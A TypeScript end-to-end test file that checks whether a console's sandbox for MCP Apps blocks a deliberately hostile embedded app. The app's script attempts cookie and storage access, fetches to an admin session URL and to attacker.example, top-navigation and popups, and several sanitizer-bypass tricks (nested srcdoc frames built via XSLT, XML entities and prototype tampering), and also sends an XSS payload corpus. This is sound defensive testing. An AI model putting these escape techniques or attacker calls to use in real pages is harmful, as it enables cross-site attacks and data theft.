import { afterAll, expect, test } from 'vitest'
import { axe, describeConsole, showAs } from '../../support/console.ts'
import { exhibit } from '../../support/exhibit-server.ts'
import { scriptedServer } from '../../support/scripted-server.ts'
import { XSS_PAYLOADS } from '../../support/xss-corpus.ts'

const CALL = 'Control+Enter'

/** An app that uses its call, and tries everything that it must not be able to do. */
const APP = `<!doctype html><style>body { margin: 8px }</style><script>
try {
  document.write('<iframe id="pieces" src')
  document.write("doc=\\"<script>parent.postMessage('peer ' + typeof RTCPeerConnection, '*')<\\/script>\\"></iframe>")
} catch {}
Error.prepareStackTrace = (_error, calls) => calls.map(call => call.getFunction())
const callers = [new Error().stack].flat().filter(caller => caller?.name)
delete Error.prepareStackTrace
</script><pre id="log"></pre><button id="more">More</button><button id="hostile">Hostile</button><button id="leave">Leave</button><script>
const show = text => { document.getElementById('log').textContent += text + '\\n' }
const attempt = async (name, work) => show(name + ': ' + await Promise.resolve().then(work).then(() => 'DONE', () => 'refused'))
let last = 0
const waiting = new Map()
const ask = (method, params) => new Promise(done => {
  waiting.set(++last, done)
  parent.postMessage({ jsonrpc: '2.0', id: last, method, params }, '*')
})
addEventListener('message', ({ data }) => {
  if (data.id !== undefined && data.method === undefined) waiting.get(data.id)?.(data.result ?? data.error)
  if (data.error?.message.includes('wait')) show('refused ' + data.error.message)
  if (data.method === 'ui/notifications/tool-input') show('input ' + JSON.stringify(data.params.arguments))
  if (data.method === 'ui/notifications/tool-result') show('result ' + data.params.content[0].text)
})
document.getElementById('more').onclick = async () => {
  const answer = await ask('tools/call', { name: 'other', arguments: { n: 1 } })
  show('called ' + (answer.content?.[0].text ?? answer.message))
}
const INNER = "<scr" + "ipt>parent.postMessage('peer ' + typeof RTCPeerConnection, '*')</scr" + "ipt>"
const DOC = 'src' + 'doc'
const TAG = '<iframe SRC' + 'DOC="' + INNER.replaceAll('"', '&quot;') + '"></iframe>'
const inBody = frame => document.body.appendChild(frame)
const NESTED = {
  property: () => inBody(Object.assign(document.createElement('iframe'), { [DOC]: INNER })),
  attribute: () => {
    const frame = document.createElement('iframe')
    frame.setAttributeNS(null, DOC, INNER)
    return inBody(frame)
  },
  markup: () => {
    const box = document.createElement('div')
    box.innerHTML = TAG
    return inBody(box.firstChild)
  },
  parser: () => inBody(document.adoptNode(new DOMParser().parseFromString(TAG, 'text/html').body.firstChild)),
  transform: () => {
    const sheet = '<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><iframe>' +
      '<x:attribute name="{concat(&quot;src&quot;, &quot;doc&quot;)}">' + INNER.replaceAll('<', '&lt;') + '</x:attribute></iframe></x:template></x:stylesheet>'
    const processor = new XSLTProcessor()
    const parsed = new DOMParser().parseFromString(sheet, 'text/xml')
    processor.importStylesheet(parsed)
    return inBody(processor.transformToFragment(parsed, document).firstChild)
  },
  pieces: () => inBody(document.getElementById('pieces')),
  entity: () => {
    const frame = '<iframe xmlns="http://www.w3.org/1999/xhtml" src&#100;oc="' + INNER.replaceAll('<', '&#38;lt;') + '"/>'
    const parsed = new DOMParser().parseFromString("<!DOCTYPE x [<!ENTITY a '" + frame.replaceAll("'", '&#39;') + "'>]><x>&a;</x>", 'text/xml')
    return inBody(document.adoptNode(parsed.querySelector('iframe')))
  },
  methods: () => {
    const saved = [String.prototype, RegExp.prototype, Array.prototype].map(of => [of, Object.getOwnPropertyDescriptors(of)])
    const box = document.createElement('div')
    try {
      String.prototype.replace = String.prototype.slice = function () { return String(this) }
      RegExp.prototype[Symbol.replace] = (regexp, text) => text
      RegExp.prototype.exec = () => null
      RegExp.prototype.test = () => false
      box.innerHTML = TAG
    } finally {
      for (const [of, members] of saved) Object.defineProperties(of, members)
    }
    return inBody(box.firstChild)
  },
}
/** Whether a frame in the app has what connects to other machines. */
const usesPeer = nest => new Promise((done, fail) => {
  addEventListener('message', ({ data }) => data === 'peer function' && done())
  const frame = nest()
  frame.onload = () => setTimeout(fail, 50) // after its message
  setTimeout(fail, 1000)
})
;(async () => {
  const { hostInfo } = await ask('ui/initialize', { protocolVersion: '2026-01-26', appInfo: {}, appCapabilities: {} })
  show('host ' + hostInfo.name)
  parent.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/initialized' }, '*')
  await attempt('document', () => { parent.document.title })
  await attempt('storage', () => { localStorage.x = 1 })
  await attempt('cookie', () => { document.cookie = 'a=b'; if (!document.cookie) throw 0 })
  await attempt('fetch', () => fetch('ORIGIN/admin/session'))
  await attempt('other', () => fetch('https://attacker.example/'))
  await attempt('eval', () => eval('1'))
  await attempt('popup', () => { if (!open('https://attacker.example/')) throw 0 })
  await attempt('top', () => { top.location = 'https://attacker.example/' })
  await attempt('peer', () => { new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] }) })
  await attempt('functions of the page', () => { if (callers.length === 0) throw 0 })
  for (const [name, nest] of Object.entries(NESTED)) await attempt('peer in a frame by ' + name, () => usesPeer(nest))
  show('link ' + (await ask('ui/open-link', { url: 'https://attacker.example/' })).code)
  parent.postMessage({ frame: 'ready' }, '*')
  parent.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/size-changed', params: { height: 300 } }, '*')
  show('end')
})()
document.getElementById('hostile').onclick = () => {
  const texts = JSON.parse(decodeURIComponent("${encodeURIComponent(JSON.stringify(XSS_PAYLOADS)).replaceAll("'", '%27')}"))
  for (const text of texts) {
    parent.postMessage({ jsonrpc: '2.0', id: text, method: text, params: { [text]: text } }, '*')
    parent.postMessage({ jsonrpc: '2.0', id: text, method: 'tools/call', params: { name: text, [text]: text } }, '*')
  }
}
document.getElementById('leave').onclick = () => { location = 'https://attacker.example/?' + Date.now() }
</script>`

let origin = ''
const asked: unknown[] = []
const server = await scriptedServer(
  exhibit({
    tools: [
      {
        definition: {
          name: 'shows',
          inputSchema: { type: 'object', properties: { city: { type: 'string', default: 'Bern' } } },
          _meta: { ui: { resourceUri: 'ui://exhibit/app.html' } },
        },
        run: { content: [{ type: 'text', text: 'from the tool' }] },
      },
      {
        definition: { name: 'other', inputSchema: { type: 'object' } },
        run: ({ arrived, answer }) => {
          asked.push(arrived.body.params?.arguments)
          answer({ content: [{ type: 'text', text: 'from another tool' }] })
        },
      },
    ],
    read: uri => ({
      contents: [{ uri, mimeType: 'text/html;profile=mcp-app', text: APP.replaceAll('ORIGIN', origin) }],
    }),
  }),
)
afterAll(() => server.close())

describeConsole(
  'MCP Apps',
  site => {
    test('an app is shown on demand, gets its call, and has no way into the console or out of it', async () => {
      site.allow(/Content Security Policy|sandbox|attacker|Failed to|Blocked|Unsafe|allow-/i)
      origin = site.origin
      const page = await site.openConsole('explore/apps/tools/shows')
      await page.getByRole('button', { name: /^Call/ }).waitFor()
      await page.keyboard.press(CALL)
      await page.getByRole('button', { name: 'Show the app' }).waitFor()
      expect(await page.locator('iframe').count()).toBe(0) // no script of a server runs before
      await page.getByRole('button', { name: 'Show the app' }).click()
      const app = page.frameLocator('iframe')
      await app.getByText('end').waitFor()
      const shown = (await app.locator('#log').textContent()) ?? ''
      expect(shown.split('\n').filter(line => line.includes('DONE'))).toEqual([])
      for (const part of ['host dragoman-console', 'input {"city":"Bern"}', 'result from the tool', 'link -32601'])
        expect(shown).toContain(part)
      expect(page.url()).toContain('#/explore/apps/tools/shows')
      await expect.poll(async () => (await page.locator('iframe').boundingBox())?.height).toBe(300)
      for (const [theme, width] of [
        ['light', 1280],
        ['dark', 400],
      ] as const) {
        await showAs(page, theme, width)
        expect(await axe(page)).toEqual([])
        await app.getByText('end').waitFor()
      }

      await app.getByRole('button', { name: 'More' }).click()
      const question = page.getByRole('group', { name: 'The app asks' })
      await question.getByText('tools/call').waitFor()
      expect(asked).toEqual([])
      await question.getByRole('button', { name: 'Refuse' }).click()
      await app.getByText('called The user refused').waitFor()
      await app.getByRole('button', { name: 'More' }).click()
      await question.getByRole('button', { name: 'Allow once' }).click()
      await app.getByText('called from another tool').waitFor()
      expect(asked).toEqual([{ n: 1 }])

      await app.getByRole('button', { name: 'Hostile' }).click()
      await question.nth(9).waitFor() // more are not shown at once
      expect(await question.count()).toBe(10)
      await app.getByText('refused 10 requests of this app wait for the user').first().waitFor()
      expect(await page.evaluate('globalThis.hacked')).toBeUndefined()
      expect(await page.locator('.app-view :is(script, img, svg animate, object, embed, iframe)').count()).toBe(1)

      const left: string[] = []
      page.on('request', request => void left.push(request.url()))
      const refusal = page.waitForEvent('console', message => /frame-src/.test(message.text()))
      await app.getByRole('button', { name: 'Leave' }).click()
      await refusal
      expect(left.filter(url => url.includes('attacker'))).toEqual([])
      await page.getByRole('button', { name: 'Close the app' }).click()
      expect(await page.locator('iframe').count()).toBe(0)
    })

    test('the page of apps has a policy of its own, and an opaque origin also where it is opened alone', async () => {
      const response = await fetch(`${site.origin}/console/app`)
      const policy = response.headers.get('content-security-policy') ?? ''
      expect(policy).toMatch(/^sandbox allow-scripts; default-src 'none'/)
      expect(policy).not.toContain('allow-same-origin')
      expect(policy).toContain("frame-ancestors 'self'")
      expect(response.headers.get('x-dns-prefetch-control')).toBe('off')
      const page = await site.openConsole('overview')
      await page.goto(`${site.origin}/console/app`)
      expect(await page.evaluate('origin')).toBe('null')
    })
  },
  { config: () => ({ mcpServers: { apps: { url: server.url } } }) },
)
